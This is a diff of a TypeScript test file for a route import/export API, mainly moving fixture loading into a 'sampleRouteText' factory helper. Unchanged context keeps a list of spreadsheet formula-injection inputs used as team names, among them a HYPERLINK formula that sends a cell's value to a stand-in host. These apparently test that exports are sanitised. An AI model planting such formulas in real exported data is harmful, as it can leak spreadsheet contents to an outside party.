@@ -1,4 +1,3 @@
-import { readFile } from 'node:fs/promises';
 import { parse } from 'csv-parse/sync';
 import { eq } from 'drizzle-orm';
 import sharp from 'sharp';
@@ -6,13 +5,7 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { games, gameSteps, liveHeartbeat, routes, steps } from '../src/db/schema';
 import { createTestApp, type TestApp } from './helpers/app';
 import { rawDb, TEST_DB } from './helpers/database';
-import { call, makeTenant, makeUser, signIn } from './helpers/factories';
-
-const fixture = () =>
-  readFile(
-    new URL('../../../packages/domain/src/fixtures/route-roma-centro.json', import.meta.url),
-    'utf8',
-  );
+import { call, makeTenant, makeUser, signIn, sampleRouteText } from './helpers/factories';
 
 /** Team names a spreadsheet would run as formulas. */
 const FORMULAS = ['=HYPERLINK("http://x.test?"&B2)', '+1', '-1', '@SUM(1)', '\tTab', '\rCr'];
@@ -108,7 +101,7 @@ describe(`route management on ${TEST_DB}`, () => {
   });
 
   it('imports the fixture, exports an equivalent document, and updates by slug on re-import', async () => {
-    const json = await fixture();
+    const json = await sampleRouteText();
     const first = await api('POST', '/routes/import', { json });
     expect(first.json()).toMatchObject({
       created: true,
@@ -285,7 +278,7 @@ describe(`route management on ${TEST_DB}`, () => {
   it('saves the step editor list in place, so running games keep their progress', async () => {
     const { route } = (
       await api('POST', '/routes/import', {
-        json: await fixture().then((j) => j.replace('roma-centro-storico', 'editor')),
+        json: await sampleRouteText().then((j) => j.replace('roma-centro-storico', 'editor')),
       })
     ).json<{ route: { id: string } }>();
     const list = (await api('GET', `/routes/${route.id}/steps`)).json<{
